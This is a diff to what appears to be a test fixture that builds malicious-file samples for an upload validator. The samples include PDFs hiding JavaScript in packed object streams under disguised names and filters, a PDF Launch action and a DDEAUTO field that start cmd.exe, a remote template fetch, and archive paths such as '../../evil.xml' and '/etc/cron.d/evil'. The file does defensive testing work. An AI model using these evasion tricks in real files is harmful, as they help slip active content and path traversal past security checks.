@@ -89,10 +89,18 @@ const names = [
 const pdfWith = (base: Buffer, object: string) =>
   latin(base.toString('latin1').replace('endobj', `endobj\n90 0 obj\n<< ${object} >>\nendobj`))
 
-function packedObjects(base: Buffer, object: string): Buffer {
-  const packed = deflateSync(latin(`1 0 << ${object} >>`))
+function packedObjects(
+  base: Buffer,
+  object: string,
+  {
+    type = '/ObjStm',
+    filter = '/FlateDecode',
+    damage = (packed: Buffer) => packed,
+  }: { type?: string; filter?: string; damage?: (packed: Buffer) => Buffer } = {},
+): Buffer {
+  const packed = damage(deflateSync(latin(`1 0 << ${object} >>`)))
   const stream = joined(
-    `endobj\n91 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`,
+    `endobj\n91 0 obj\n<< /Type ${type} /N 1 /First 4 /Filter ${filter} /Length ${packed.length} >>\nstream\n`,
     packed,
     '\nendstream\nendobj',
   )
@@ -217,6 +225,12 @@ export async function hostileFiles(): Promise<Hostile[]> {
       'half a PDF': cut(aPdf),
       'the head of a PDF': latin('%PDF-1.7\n'),
       'half a presentation': cut(slides),
+      'a PDF whose objects are packed twice': packedObjects(aPdf, '/S /JavaScript', {
+        filter: '[/ASCIIHexDecode /FlateDecode]',
+      }),
+      'a PDF whose objects are packed once more': packedObjects(aPdf, '/S /JavaScript', {
+        filter: '[/FlateDecode /FlateDecode]',
+      }),
       'a presentation that claims less than it holds': understated(grown),
       'a name that leads out': presentation({ '../../evil.xml': '<a/>' }),
       'a name that leads to the root': presentation({ '/etc/cron.d/evil': '<a/>' }),
@@ -238,6 +252,14 @@ export async function hostileFiles(): Promise<Hostile[]> {
     ),
     ...one('document', 'files.macros', {
       'a presentation with macros': presentation({ 'ppt/vbaProject.bin': 'x' }),
+      'a presentation with a control': presentation({ 'ppt/activeX/activeX1.bin': 'x' }),
+      'a presentation that fetches its template': presentation({
+        'ppt/_rels/settings.xml.rels':
+          '<Relationships><Relationship Id="r" Type="http://a.example/attachedTemplate" Target="https://a.example/x.dotm" TargetMode="External"/></Relationships>',
+      }),
+      'a presentation with a field that starts a program': presentation({
+        'ppt/field.xml': '<w:instrText xml:space="preserve"> DDEAUTO c:\\cmd.exe </w:instrText>',
+      }),
       'a presentation with a program': presentation({ 'ppt/embeddings/run.exe': 'MZ' }),
       'a text with macros': openText({ 'Basic/Standard/Module1.xml': latin('<a/>') }),
       'a text with scripts': openText({ 'Scripts/python/a.py': latin('import os') }),
@@ -246,6 +268,14 @@ export async function hostileFiles(): Promise<Hostile[]> {
       'a PDF with a script': pdfWith(aPdf, '/S /JavaScript /JS (app.alert(1))'),
       'a PDF with a script under another spelling': pdfWith(aPdf, '/S /J#61vaScript'),
       'a PDF with a script that is packed': packedObjects(aPdf, '/S /JavaScript'),
+      'a PDF with a script that is packed under another spelling': packedObjects(
+        aPdf,
+        '/S /JavaScript',
+        { type: '/Obj#53tm' },
+      ),
+      'a PDF with a script that is packed with a wrong sum': packedObjects(aPdf, '/S /JavaScript', {
+        damage: (packed) => packed.fill(0, packed.length - 4),
+      }),
       'a PDF that starts a program': pdfWith(aPdf, '/S /Launch /F (cmd.exe)'),
       'a PDF with a file inside': pdfWith(aPdf, '/Type /EmbeddedFile'),
       'a PDF with a list of files inside': pdfWith(aPdf, '/Names << /EmbeddedFiles 3 0 R >>'),
@@ -277,6 +307,9 @@ export async function hostileFiles(): Promise<Hostile[]> {
       'a box that ends beyond the file': joined(mp4(), '\x7f\xff\xff\xfffree'),
       'a box of no size': joined(mp4(), '\0\0\0\x04free', Buffer.alloc(20)),
       'the head of a WebM': joined('\x1a\x45\xdf\xa3\x8f\x42\x82\x84webm', Buffer.alloc(8)),
+    }),
+    ...one('video', 'files.twoThings', {
+      'an MP4 with an archive in its last box': joined(mp4(), box('free', archive)),
     }),
     ...one('captions', 'files.wrongType', { PNG: aPng, PDF: aPdf, film: mp4() }),
     ...one('captions', 'files.damaged', {
